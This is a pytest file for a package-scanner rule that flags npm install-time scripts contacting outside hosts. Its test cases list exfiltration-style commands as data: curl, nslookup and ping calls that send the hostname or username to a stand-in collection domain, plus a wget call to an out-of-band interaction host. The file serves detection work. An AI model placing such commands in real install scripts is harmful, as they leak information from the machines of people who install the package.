import json

import pytest

from lazaretto.detect.engine import Engine
from lazaretto.detect.rules.manifest.lifecycle_tells_host import RULE
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def told(command: str, script: str = "preinstall") -> list[tuple[str, str]]:
    text = json.dumps({"name": "a", "scripts": {script: command}}, indent=1)
    result = Engine([RULE], VIEWS).examine(Blob("package.json", text.encode()))
    assert result.gaps == ()
    return [(f.severity.name, f.confidence.name) for f in result.findings]


@pytest.mark.parametrize(
    "command",
    [
        "curl https://collect.example.test/?h=$(hostname)",
        "nslookup $(whoami).collect.example.test",
        "ping -c 1 `hostname`.collect.example.test",
        "curl https://collect.example.test/%USERNAME%",
        "wget -q -O- https://a.oast.fun",
        "calc.exe",
    ],
)
def test_what_tells(command: str) -> None:
    assert told(command) == [("HIGH", "HIGH")]


def test_a_plain_call() -> None:
    assert told("curl -s https://stats.example.test/installed") == [("MEDIUM", "MEDIUM")]
    assert told("wget -q -O- https://stats.example.test/$npm_package_name") == [("MEDIUM", "MEDIUM")]


@pytest.mark.parametrize(
    "command",
    [
        "curl -o data.json https://files.example.test/data.json",
        "wget -O out/a.zip https://files.example.test/a.zip",
        "node-gyp rebuild",
        "curl http://localhost:3000/ready",
        "echo $(hostname)",
    ],
)
def test_near_misses(command: str) -> None:
    assert told(command) == []


def test_only_what_an_installation_runs() -> None:
    assert told("curl https://collect.example.test/?h=$(hostname)", "start") == []
